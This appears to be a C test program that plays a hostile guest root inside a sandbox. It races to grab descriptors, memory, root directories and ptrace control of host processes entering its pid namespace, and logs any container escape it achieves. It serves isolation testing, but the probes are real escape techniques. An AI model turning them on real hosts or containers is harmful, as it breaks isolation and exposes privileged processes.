/*
 * Root of a guest that lies in wait for whoever enters: it tries to take descriptors and memory of each
 * new process in its pid namespace, and of those that it finds in /proc, for as long as the file
 * /root/watch is there. What it gets of a process that still runs the host's program is an escape, and
 * so is a descriptor from which ".." leads to what the guest has no name for.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

static FILE *report;
static long seen, touched;
static struct stat own_root;

static void comm_of(int pid, char *comm, size_t size)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	comm[0] = 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t got = read(fd, comm, size - 1);
	comm[got > 0 ? got : 0] = 0;
	comm[strcspn(comm, "\n")] = 0;
	close(fd);
}

/* The program that enters has the monitor's name, or the number or name of what it was executed from. */
static int is_hosts(const char *comm)
{
	return isdigit((unsigned char)comm[0]) || strncmp(comm, "nagaya", 6) == 0 || strncmp(comm, "monitor", 7) == 0;
}

static void escaped(int pid, const char *comm, const char *how)
{
	fprintf(report, "ESCAPE by %s of %d (%s)\n", how, pid, comm);
	fflush(report);
}

/* Whether ".." of a directory, as often as one likes, ends elsewhere than at the guest's root. */
static int leads_out(int fd)
{
	struct stat there;
	if (fstat(fd, &there) || !S_ISDIR(there.st_mode))
		return 0;
	int top = openat(fd, "../../../../../../../../../../../../../../../../../../../..", O_PATH | O_DIRECTORY);
	if (top < 0)
		return 0;
	struct stat end;
	int is_out = fstat(top, &end) == 0 && !(end.st_dev == own_root.st_dev && end.st_ino == own_root.st_ino)
		/* A mount of its own, of which it is the root. */
		&& !(end.st_dev == there.st_dev && end.st_ino == there.st_ino);
	close(top);
	return is_out;
}

static void attack(int pid)
{
	char before[64], after[64], path[64];
	comm_of(pid, before, sizeof before);
	int got_fd = -1, memory, root, fds;
	long traced = -1;
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		return;
	seen++;
	if (is_hosts(before))
		touched++;
	for (int number = 0; number < 40; number++) {
		int fd = syscall(SYS_pidfd_getfd, pidfd, number, 0);
		if (fd < 0)
			continue;
		if (number > 2)
			got_fd = number;
		if (leads_out(fd))
			escaped(pid, before, "a directory");
		close(fd);
	}
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	memory = open(path, O_RDWR);
	snprintf(path, sizeof path, "/proc/%d/root/", pid);
	root = open(path, O_PATH);
	snprintf(path, sizeof path, "/proc/%d/fd/", pid);
	DIR *list = opendir(path);
	fds = list && readdir(list) ? 1 : -1;
	traced = ptrace(PTRACE_SEIZE, pid, 0, 0);
	comm_of(pid, after, sizeof after);
	if (is_hosts(after)) {
		if (got_fd >= 0)
			escaped(pid, after, "pidfd_getfd");
		if (memory >= 0)
			escaped(pid, after, "/proc/PID/mem");
		if (root >= 0)
			escaped(pid, after, "/proc/PID/root");
		if (fds >= 0)
			escaped(pid, after, "/proc/PID/fd");
		if (traced == 0)
			escaped(pid, after, "ptrace");
	}
	if (traced == 0) {
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	if (memory >= 0)
		close(memory);
	if (root >= 0)
		close(root);
	if (list)
		closedir(list);
	close(pidfd);
}

int main(void)
{
	signal(SIGHUP, SIG_IGN);
	if (fork())
		return 0;
	setsid();
	report = fopen("/root/report", "a");
	stat("/", &own_root);
	int next = getpid() + 1;
	while (access("/root/watch", F_OK) == 0) {
		for (int ahead = 0; ahead < 24; ahead++) {
			int pidfd = syscall(SYS_pidfd_open, next + ahead, 0);
			if (pidfd < 0)
				continue;
			close(pidfd);
			attack(next + ahead);
			next += ahead + 1;
			ahead = -1;
		}
	}
	fprintf(report, "seen %ld, of them before their program %ld\n", seen, touched);
	fclose(report);
	return 0;
}
